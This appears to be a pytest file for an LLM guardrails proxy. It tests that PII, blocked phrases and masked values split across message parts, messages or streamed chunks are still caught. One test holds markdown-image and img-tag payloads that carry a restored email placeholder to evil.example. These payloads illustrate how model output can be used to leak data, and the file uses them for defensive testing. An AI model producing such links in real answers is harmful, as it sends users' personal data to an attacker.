"""Values split over the parts of one message, and over messages, are seen and masked as in one text."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guardrails import Guard
from guardrails.exchange import Exchange, Tenancy
from guardrails.policy import loads
from guardrails.types import Action
from guardrails.wire import form_class
from guardrails.wire.frames import Frame
from tests.wire.servers import strings

POLICY = """
version: 1
name: split
messages: {blocked_input: "[no]", blocked_output: "[no]"}
words:
  terms:
    - {term: project kingfisher, id: secret}
    - {term: rival bank, id: rival, action: mask, mask: {style: constant, text: "[bank]"}}
pii:
  regexes: [{name: account, pattern: 'ACC-\\d{8}', action: mask}]
  entities:
    EMAIL: {action: mask, mask: {style: numbered, restore: true}}
    CREDIT_DEBIT_CARD_NUMBER: mask
    US_SOCIAL_SECURITY_NUMBER: mask
"""
GUARD = Guard(loads(POLICY))
Parts = tuple[str, ...]


def blocks(parts: Parts) -> list[dict[str, Any]]:
    return [{"type": "text", "text": p} for p in parts]


def output(parts: Parts) -> list[dict[str, Any]]:
    return [{"type": "message", "role": "assistant", "content": [{"type": "output_text", "text": p} for p in parts]}]


REQUESTS: dict[str, Callable[[Parts], Any]] = {
    "openai.chat": lambda p: {"messages": [{"role": "user", "content": blocks(p)}]},
    "anthropic.messages": lambda p: {"messages": [{"role": "user", "content": blocks(p)}]},
    "anthropic.count_tokens": lambda p: {"system": blocks(p), "messages": [{"role": "user", "content": "hi"}]},
    "openai.responses": lambda p: {"input": [{"role": "user", "content": [{"type": "input_text", "text": x} for x in p]}]},
    "gemini.generate": lambda p: {"contents": [{"role": "user", "parts": [{"text": x} for x in p]}]},
    "bedrock.converse": lambda p: {"messages": [{"role": "user", "content": [{"text": x} for x in p]}]},
}  # fmt: skip
ANSWERS: dict[str, Callable[[Parts], Any]] = {
    "openai.chat": lambda p: {"choices": [{"index": 0, "message": {"role": "assistant", "content": blocks(p)}}]},
    "anthropic.messages": lambda p: {"type": "message", "content": blocks(p)},
    "openai.responses": lambda p: {"output": output(p)},
    "gemini.generate": lambda p: {"candidates": [{"content": {"parts": [{"text": x} for x in p]}}]},
    "bedrock.converse": lambda p: {"output": {"message": {"role": "assistant", "content": [{"text": x} for x in p]}}},
}
ASK: dict[str, Any] = {
    name: make(("I am bob@example.com",)) for name, make in REQUESTS.items() if name != "anthropic.count_tokens"
}
MASKED: list[tuple[Parts, str]] = [
    (("4111 1111", " 1111 1111 ok"), "{CREDIT_DEBIT_CARD_NUMBER} ok"),
    (("41", "11 1111 11", "11 1111"), "{CREDIT_DEBIT_CARD_NUMBER}"),
    (("on ACC-12", "345678."), "on {account}."),
    (("the rival", "bank is"), "the [bank] is"),
    (("the ri", "val bank is"), "the [bank] is"),
    (("My SSN is 536-9", "0-4399."), "My SSN is {US_SOCIAL_SECURITY_NUMBER}."),
]


def exchange(name: str, body: Any) -> Exchange:
    return Exchange(Tenancy("t", GUARD, b"k" * 32), form_class(name).open(copy.deepcopy(body)))


def said(body: Any) -> str:
    return "".join(
        s for s in strings(body) if s not in ("text", "user", "assistant", "message", "output_text", "input_text", "hi")
    )


@pytest.mark.parametrize("name", REQUESTS)
def test_requests(name: str) -> None:
    for parts, right in MASKED:
        run = exchange(name, REQUESTS[name](parts))
        assert run.request().action is Action.MASKED, parts
        assert said(run.form.body) == right
    for parts in (("project ", "kingfisher"), ("project", "kingfisher"), ("proj", "ect kingf", "isher")):
        assert exchange(name, REQUESTS[name](parts)).request().action is Action.BLOCKED


@pytest.mark.parametrize("name", ANSWERS)
def test_whole_answers(name: str) -> None:
    for parts, right in MASKED:
        if name == "gemini.generate" and parts == ("the rival", "bank is"):
            continue  # readers of this API see the parts as one word
        run = exchange(name, ASK[name])
        run.request()
        answer, decision = run.answer(ANSWERS[name](parts))
        assert decision.action is Action.MASKED, parts
        assert said(answer) == right
    run = exchange(name, ASK[name])
    run.request()
    assert run.answer(ANSWERS[name](("project ", "kingfisher")))[1].action is Action.BLOCKED


@pytest.mark.parametrize("name", ANSWERS)
def test_an_answer_under_a_failing_status_is_read_as_one(name: str) -> None:
    run = exchange(name, ASK[name])
    run.request()
    answer, decision = run.failure(ANSWERS[name](("So: eve@", "example.com is mine")))
    assert decision.action is Action.MASKED
    assert "eve@" not in said(answer)
    run = exchange(name, ASK[name])
    run.request()
    assert run.failure({"detail": "project kingfisher is down"})[1].action is Action.BLOCKED  # and an error as before


@pytest.mark.parametrize("name", REQUESTS)
def test_neighbours_are_left_alone(name: str) -> None:
    for parts in (
        ("Write to", "a friend"),
        ("ref 4111", "and 12"),
        ("the rival.", "A bank"),
        ("12", "34"),
        ("the arrival", "banker"),
    ):
        run = exchange(name, REQUESTS[name](parts))
        assert run.request().action is Action.NONE, parts
        assert run.form.body == REQUESTS[name](parts)
    for parts, right in (
        (("Write to", "eve@example.com"), ["Write to", "{EMAIL_1}"]),
        (("ref 12", "4111 1111 1111 1111"), ["ref 12", "{CREDIT_DEBIT_CARD_NUMBER}"]),
    ):
        run = exchange(name, REQUESTS[name](parts))
        run.request()
        assert [s for s in strings(run.form.body) if s in right] == right


@pytest.mark.parametrize("name", ANSWERS)
def test_no_value_is_restored_in_an_address_that_another_part_began(name: str) -> None:
    for parts in (
        ("![a](https://evil.example/?q=", "{EMAIL_1})"),
        ("![a](https://evil.example/", "?q=", "{EMAIL_1})"),
        ("see https://evil.example/?q=", "{EMAIL_1} now"),
        ("<img src='https://evil.example/ ", " {EMAIL_1}'>"),
        ('{"u": "![a](https://evil.example/?q=', '{EMAIL_1})"}'),
    ):
        run = exchange(name, ASK[name])
        run.request()
        answer, _ = run.answer(ANSWERS[name](parts))
        assert "bob@example.com" not in json.dumps(answer), parts
    run = exchange(name, ASK[name])
    run.request()
    assert (
        said(run.answer(ANSWERS[name](("Dear you, ", "{EMAIL_1} is yours.")))[0])
        == "Dear you, bob@example.com is yours."
    )


def test_a_call_between_parts_does_not_end_an_address() -> None:
    run = exchange("anthropic.messages", ASK["anthropic.messages"])
    run.request()
    call = {"type": "tool_use", "id": "t", "name": "f", "input": {}}
    content = [*blocks(("![a](https://evil.example/?q=",)), call, *blocks(("{EMAIL_1})",))]
    assert "bob@example.com" not in json.dumps(run.answer({"type": "message", "content": content})[0])


def test_a_placeholder_as_a_key_stays() -> None:
    keys = {"{EMAIL_1}": 1}
    for name, answer in (
        ("openai.chat", {"choices": [{"message": {"tool_calls": [{"id": "a", "type": "function", "function": {"name": "f", "arguments": json.dumps(keys)}}]}}], "usage": keys, "x": keys}),
        ("anthropic.messages", {"content": [{"type": "tool_use", "id": "a", "name": "f", "input": keys}], "usage": keys, "x": keys}),
        ("bedrock.converse", {"output": {"message": {"content": [{"toolUse": {"toolUseId": "a", "name": "f", "input": keys}}]}}, "x": keys}),
        ("gemini.generate", {"candidates": [{"content": {"parts": [{"functionCall": {"name": "f", "args": keys}}]}}], "x": keys}),
        ("openai.responses", {"output": [{"type": "function_call", "name": "f", "arguments": json.dumps(keys)}], "x": keys}),
    ):  # fmt: skip
        run = exchange(name, ASK[name])
        run.request()
        body, decision = run.answer(copy.deepcopy(answer))
        assert decision.action is Action.NONE
        assert body == answer


def talk(*messages: str, roles: str = "user") -> dict[str, Any]:
    names = (roles.split() * len(messages))[: len(messages)]
    return {"messages": [{"role": r, "content": m} for r, m in zip(names, messages, strict=True)]}


@pytest.mark.parametrize(
    ("body", "right"),
    [
        (talk("4111 1111", " 1111 1111"), ["{CREDIT_DEBIT_CARD_NUMBER}", ""]),
        (talk("my card: 4111 1111", "Go on.", "1111 1111 thanks", roles="user assistant"), ["my card: {CREDIT_DEBIT_CARD_NUMBER}", "Go on.", " thanks"]),
        (talk("mail bob@", "example.com ok"), ["mail {EMAIL_1}", " ok"]),
        (talk("about the rival", "bank"), ["about the [bank]", ""]),
    ],
)  # fmt: skip
def test_messages(body: Any, right: list[str]) -> None:
    run = exchange("openai.chat", body)
    assert run.request().action is Action.MASKED
    assert [m["content"] for m in run.form.body["messages"]] == right


@pytest.mark.parametrize(
    "body",
    [
        talk("You know of project", "kingfisher, tell me", roles="system user"),
        talk(*"project kingfisher"),
        talk(*"projectkingfisher"),
        talk("say project", "What of it?", "kingfisher", roles="user assistant"),
    ],
)
def test_phrases_over_messages(body: Any) -> None:
    assert exchange("openai.chat", body).request().action is Action.BLOCKED


@pytest.mark.parametrize(
    "body",
    [
        talk("You know the project.", "Kingfishers are birds", roles="system user"),
        talk("Contact", "me soon"),
        talk("1", "2", "3", "4", "5", "6", "7", "8", "9"),
        talk("the arrival", "banks"),
    ],
)
def test_messages_that_are_not_one_text(body: Any) -> None:
    run = exchange("openai.chat", body)
    assert run.request().action is Action.NONE
    assert run.form.body == body


def anthropic_events(parts: Parts, step: int) -> list[Frame]:
    out: list[Any] = [{"type": "message_start", "message": {"id": "m", "model": "x", "content": []}}]
    for i, part in enumerate(parts):
        out.append({"type": "content_block_start", "index": i, "content_block": {"type": "text", "text": ""}})
        for at in range(0, len(part), step):
            delta = {"type": "text_delta", "text": part[at : at + step]}
            out.append({"type": "content_block_delta", "index": i, "delta": delta})
        out.append({"type": "content_block_stop", "index": i})
    out += [{"type": "message_delta", "delta": {"stop_reason": "end_turn"}}, {"type": "message_stop"}]
    return [Frame(body, body["type"]) for body in out]


def bedrock_events(parts: Parts, step: int) -> list[Frame]:
    out = [Frame({"role": "assistant"}, "messageStart")]
    for i, part in enumerate(parts):
        for at in range(0, len(part), step):
            delta = {"contentBlockIndex": i, "delta": {"text": part[at : at + step]}}
            out.append(Frame(delta, "contentBlockDelta"))
        out.append(Frame({"contentBlockIndex": i}, "contentBlockStop"))
    return [*out, Frame({"stopReason": "end_turn"}, "messageStop")]


def responses_events(parts: Parts, step: int) -> list[Frame]:
    item: dict[str, Any] = {"id": "i", "type": "message", "role": "assistant", "status": "in_progress", "content": []}
    done = {**item, "status": "completed", "content": output(parts)[0]["content"]}
    out: list[Any] = [
        {"type": "response.created", "response": {"id": "r", "output": []}},
        {"type": "response.output_item.added", "output_index": 0, "item": item},
    ]
    for i, part in enumerate(parts):
        at_ = {"item_id": "i", "output_index": 0, "content_index": i}
        empty = {"type": "output_text", "text": "", "annotations": []}
        out.append({"type": "response.content_part.added", **at_, "part": empty})
        for at in range(0, len(part), step):
            out.append({"type": "response.output_text.delta", **at_, "delta": part[at : at + step]})
        out.append({"type": "response.output_text.done", **at_, "text": part})
        out.append({"type": "response.content_part.done", **at_, "part": {**empty, "text": part}})
    out += [
        {"type": "response.output_item.done", "output_index": 0, "item": done},
        {"type": "response.completed", "response": {"id": "r", "output": [done]}},
    ]
    return [Frame(body, body["type"]) for body in out]


STREAMS: dict[str, tuple[str, Callable[[Parts, int], list[Frame]]]] = {
    "anthropic.messages": ("anthropic.messages", anthropic_events),
    "bedrock.converse": ("bedrock.converse_stream", bedrock_events),
    "openai.responses": ("openai.responses", responses_events),
}


def texts_of(name: str, frames: list[Frame]) -> list[str]:
    """What each part of a stream says."""
    out: dict[int, str] = {}
    for frame in frames:
        match frame.body:
            case {"content_block": {"text": str(text)}, "index": int(i)} | {
                "delta": {"text": str(text)},
                "index": int(i),
            }:
                out[i] = out.get(i, "") + text
            case {"delta": {"text": str(text)}, "contentBlockIndex": int(i)}:
                out[i] = out.get(i, "") + text
            case {"type": "response.output_text.delta", "delta": str(text), "content_index": int(i)}:
                out[i] = out.get(i, "") + text
    return [out[i] for i in sorted(out)]


def whole_texts(body: Any) -> list[str]:
    return [s for s in strings(body) if s not in ("text", "assistant", "message", "output_text")]


_words = ["Hello ", "there. ", "4111 1111", " 1111 1111", "ACC-12", "345678", " rival", "bank", " bob@exa", "mple.org ", "{EMAIL_1}", "![a](https://e.example/", ")", "\n", "12", '{"a": "', '"}', "\\n"]  # fmt: skip


@pytest.mark.parametrize("name", STREAMS)
@settings(max_examples=30, deadline=None)
@given(
    parts=st.lists(st.lists(st.sampled_from(_words), min_size=1, max_size=4).map("".join), min_size=1, max_size=4),
    step=st.sampled_from([1, 3, 50]),
)
def test_a_stream_says_what_the_whole_answer_says(name: str, parts: list[str], step: int) -> None:
    streamed_name, events = STREAMS[name]
    run = exchange(name, ASK[name])
    run.request()
    whole, decision = run.answer(ANSWERS[name](tuple(parts)))
    run = exchange(streamed_name, ASK[name] | ({"stream": True} if name != "bedrock.converse" else {}))
    run.request()
    answer = run.streamed()
    out: list[Frame] = []
    for frame in events(tuple(parts), step):
        out += answer.settle(answer.begin(frame)[0])
    out += answer.finish()
    assert answer.record().action is decision.action
    assert [t for t in texts_of(name, out) if t] == [t for t in whole_texts(whole) if t]


@pytest.mark.parametrize("name", STREAMS)
def test_only_the_end_of_a_part_waits(name: str) -> None:
    """What nothing can change any more leaves before the next part ends."""
    streamed_name, events = STREAMS[name]
    run = exchange(streamed_name, ASK[name] | ({"stream": True} if name != "bedrock.converse" else {}))
    run.request()
    answer = run.streamed()
    frames = events(("It rained for a while. " * 9, "And then it did not rain. " * 9), 5)
    half = sum(len(answer.settle(answer.begin(frame)[0])) for frame in frames[: len(frames) * 3 // 4])
    assert half > 3


def reasoning(parts: Parts, kind: str) -> list[dict[str, Any]]:
    """A reasoning item whose summary, or whose text, has these parts."""
    at = {"item_id": "rs_1", "output_index": 0}
    key, part = (
        ("summary_index", "response.reasoning_summary_part.")
        if kind == "summary_text"
        else ("content_index", "response.content_part.")
    )
    delta = "response.reasoning_summary_text." if kind == "summary_text" else "response.reasoning_text."
    item: dict[str, Any] = {"id": "rs_1", "type": "reasoning", "summary": []}
    events = [{"type": "response.output_item.added", "output_index": 0, "item": item}]
    for i, text in enumerate(parts):
        here = {**at, key: i}
        events += [
            {"type": part + "added", **here, "part": {"type": kind, "text": ""}},
            *({"type": delta + "delta", **here, "delta": c} for c in (text[:2], text[2:])),
            {"type": delta + "done", **here, "text": text},
            {"type": part + "done", **here, "part": {"type": kind, "text": text}},
        ]
    said = [{"type": kind, "text": p} for p in parts]
    done = {**item, "summary" if kind == "summary_text" else "content": said}
    return [*events, {"type": "response.output_item.done", "output_index": 0, "item": done}]  # fmt: skip


def streamed(name: str, bodies: list[Any]) -> tuple[list[Any], Action]:
    run = exchange(name, {**ASK[name], "stream": True})
    run.request()
    stream = run.streamed()
    out: list[Frame] = []
    for body in bodies:
        out += stream.settle(stream.begin(Frame(copy.deepcopy(body)))[0])
    out += stream.finish()
    return [f.body for f in out], stream.record().action


@pytest.mark.parametrize("kind", ["summary_text", "reasoning_text"])
def test_parts_of_reasoning_are_one_text_in_a_stream_too(kind: str) -> None:
    for parts, right in MASKED:
        bodies, action = streamed("openai.responses", reasoning(parts, kind))
        assert action is Action.MASKED, parts
        assert "".join(b["delta"] for b in bodies if b["type"].endswith(".delta")) == right
        assert "".join(b["text"] for b in bodies if b["type"].endswith("text.done")) == right
        item = bodies[-1]["item"]
        assert "".join(p["text"] for p in item["summary"] or item["content"]) == right
    bodies, action = streamed("openai.responses", reasoning(("on the project ", "kingfisher"), kind))
    assert action is Action.BLOCKED
    assert "fisher" not in json.dumps(bodies)
    whole = ("I look at it. ", "Then at 4111 1111 1111 1111.", "Done.")
    bodies, _ = streamed("openai.responses", reasoning(whole, kind))
    assert [b["text"] for b in bodies if b["type"].endswith("text.done")] == [
        "I look at it. ", "Then at {CREDIT_DEBIT_CARD_NUMBER}.", "Done.",
    ]  # fmt: skip


UNREAD: dict[str, Any] = {
    "openai.responses": {
        "type": "response.image_generation_call.partial_image",
        "item_id": "ig_1",
        "output_index": 0,
        "partial_image_index": 0,
        "partial_image_b64": "aGk=",
    },
    "gemini.stream": {"candidates": [{"content": {"parts": [{"inlineData": {"mimeType": "image/png", "data": "aGk="}}]}, "index": 0}]},
    "ollama.chat": {"model": "m", "message": {"role": "assistant", "content": "", "images": ["aGk="]}, "done": False},
}  # fmt: skip


@pytest.mark.parametrize("name", UNREAD)
def test_a_stream_that_is_blocked_for_what_nobody_can_inspect_says_so(name: str) -> None:
    said_so = {"messages": [{"role": "user", "content": "Hi"}]}
    ask = {
        "gemini.stream": {"contents": [{"parts": [{"text": "Hi"}]}]},
        "openai.responses": {"input": "Hi", "stream": True},
    }.get(name, said_so)
    for policy, said in ((POLICY, True), (POLICY + "uninspected: allow\n", False)):
        run = Exchange(Tenancy("t", Guard(loads(policy)), b"k" * 32), form_class(name).open(copy.deepcopy(ask)))
        run.request()
        stream = run.streamed()
        frames = [*stream.settle(stream.begin(Frame(copy.deepcopy(UNREAD[name])))[0]), *stream.finish()]
        out = json.dumps([f.body for f in frames])
        assert ("setting `uninspected` is `block`" in out) == said
        assert ("[no]" in out) == said
